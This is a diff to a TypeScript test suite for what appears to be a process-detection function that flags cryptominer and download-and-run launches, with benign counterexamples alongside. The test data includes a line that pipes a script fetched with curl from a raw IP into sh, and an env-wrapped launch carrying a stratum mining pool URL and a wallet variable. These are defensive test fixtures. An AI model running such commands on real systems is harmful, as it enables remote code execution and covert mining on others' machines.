@@ -32,6 +32,14 @@ test.each<[string, ProcessFacts, string]>([
     'argv[4]',
   ],
   ['script', { exe: '/bin/dash', argv: ['sh', '-c', 'curl -s http://185.1.2.3/x | sh'] }, 'argv[2]'],
+  [
+    'variables that env is given',
+    {
+      exe: '/usr/bin/env',
+      argv: ['env', '-i', 'POOL_URL=stratum+tcp://p.example:3333', `POOL_USER=${XMR}`, './web'],
+    },
+    'argv[2]',
+  ],
   ['hash', { exe: '/opt/a', argv: ['a'], sha256: 'ab'.repeat(32) }, 'sha256'],
 ])('denies by %s', (_, facts, path) => {
   const { verdict, findings } = judge(facts);
@@ -45,6 +53,10 @@ test.each<[string, ProcessFacts]>([
   ['a search', { exe: '/bin/grep', comm: 'grep', argv: ['grep', '-r', 'stratum+tcp://p:1', '/etc'] }],
   ['minio', { exe: '/usr/bin/minio', comm: 'minio', argv: ['minio', 'server', '/data'] }],
   ['an exporter', { exe: '/usr/bin/xmrig-exporter', comm: 'xmrig-exporter', argv: ['xmrig-exporter'] }],
+  [
+    'a service with its settings from env',
+    { exe: '/usr/bin/env', argv: ['env', 'DB_POOL=10', 'REDIS_URL=redis://cache:6379', 'node', 'server.js'] },
+  ],
   ['a login shell', { exe: '/bin/bash', comm: 'bash', argv: ['-bash'] }],
   ['pgrep', { exe: '/usr/bin/pgrep', comm: 'pgrep', argv: ['pgrep', 'xmrig'] }],
 ])('does not deny %s', (_, facts) => expect(judge(facts).verdict).not.toBe('deny'));
